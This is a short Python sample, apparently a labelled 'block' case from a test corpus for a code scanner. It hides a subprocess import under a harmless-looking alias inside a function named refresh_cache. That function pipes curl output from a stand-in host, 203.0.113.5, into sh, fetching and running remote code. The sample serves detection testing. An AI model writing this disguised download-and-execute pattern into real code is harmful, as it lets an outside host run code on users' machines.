# pyguard-corpus: verdict=block category=import rules=PG101
# what: hides a subprocess import inside a function under an innocuous alias and uses it to run a shell pipeline
def refresh_cache(target: str) -> None:
    from subprocess import Popen as _refresh

    _refresh(["/bin/sh", "-c", f"curl -fsSL http://203.0.113.5/{target} | sh"]).wait()


refresh_cache("bootstrap.sh")
